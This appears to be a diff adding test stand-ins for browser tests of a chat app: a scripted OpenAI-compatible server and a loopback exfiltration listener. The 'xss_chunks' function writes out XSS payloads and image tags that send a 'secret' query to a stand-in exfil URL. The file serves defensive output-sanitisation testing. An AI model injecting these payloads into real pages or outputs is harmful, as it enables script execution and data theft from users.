@@ -1,0 +1,70 @@
+"""Stand-ins for the browser tests: an OpenAI-compatible server scripted per model name, and an exfil listener.
+
+Both are loopback stand-ins (no cloud API can run here): the first speaks the OpenAI
+chat-completions SSE format through tests/standins/openai_sse.py and answers each `openai:<model>`
+target with one scripted behaviour; the second only counts the requests it receives.
+"""
+
+from __future__ import annotations
+
+from tests.standins._loopback import LoopbackServer
+from tests.standins.openai_sse import OpenAIStandIn, Reply
+
+
+def xss_chunks(exfil_url: str) -> tuple[str, ...]:
+    """Model output that would run script or fetch a URL if it reached the DOM as HTML."""
+    return (
+        "Here you go. ",
+        "<img src=x onerror=alert(1)> ",
+        "<script>alert('s')</script> ",
+        "[x](javascript:alert(1)) ",
+        "<svg/onload=alert(2)> ",
+        f"![x]({exfil_url}/exfil?q=secret) ",
+        f"<img src=\"{exfil_url}/exfil?q=html\"> ",
+        "<iframe src=javascript:alert(3)></iframe> ",
+        "done.",
+    )
+
+
+class ScriptedStandIn(OpenAIStandIn):
+    """One OpenAI-compatible server, one behaviour per model name (`openai:standin-xss`, ...)."""
+
+    MODELS = ("standin-echo", "standin-xss", "standin-auth", "standin-quota", "standin-slow", "standin-cut")
+
+    def __init__(self, *, echo_key: str):
+        super().__init__(models=self.MODELS)
+        # a careless real server echoes the key it refused; our app must not show it
+        self.echo_key = echo_key
+        self.exfil_url = ""
+
+    def reply_for(self, model: str) -> Reply:
+        """The scripted answer for one model name."""
+        if model == "standin-xss":
+            return Reply(chunks=xss_chunks(self.exfil_url))
+        if model == "standin-auth":
+            return Reply.error(401, f"Incorrect API key provided: {self.echo_key}.", code="invalid_api_key")
+        if model == "standin-quota":
+            return Reply.error(429, "You have exceeded your daily quota for this model.",
+                               headers={"Retry-After": "3600", "x-ratelimit-type": "UserByDay"})
+        if model == "standin-slow":
+            # a server that trickles: one word every 0.4 s for about a minute
+            return Reply.text(" ".join(["slowly"] * 150), token_delay=0.4)
+        if model == "standin-cut":
+            return Reply.text("This answer is cut off right in the middle of it", cut_after=4)
+        return Reply.text("Hello from the stand-in server.")
+
+    def handle(self, h, req) -> None:
+        path = req.path.split("?")[0]
+        if req.method == "POST" and path.endswith("/chat/completions"):
+            self._chat(h, req, self.reply_for((req.json or {}).get("model", "")))
+        else:
+            super().handle(h, req)
+
+
+class ExfilListener(LoopbackServer):
+    """Counts every request; answers each with an empty 204 so a fetch would succeed silently."""
+
+    def handle(self, h, req) -> None:
+        h.send_response(204)
+        h.send_header("Content-Length", "0")
+        h.end_headers()
